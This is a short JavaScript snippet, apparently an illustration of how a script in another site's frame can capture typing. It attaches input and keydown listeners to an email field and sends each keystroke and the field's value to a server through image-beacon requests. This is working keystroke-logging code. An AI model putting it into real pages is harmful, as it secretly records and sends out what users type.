// Another site's frame: its script sends every keystroke home as it is typed.
const field = document.getElementById('email');
field.addEventListener('input', () => { new Image().src = `/keys?v=${encodeURIComponent(field.value)}`; });
field.addEventListener('keydown', (event) => { new Image().src = `/keys?k=${encodeURIComponent(event.key)}`; });
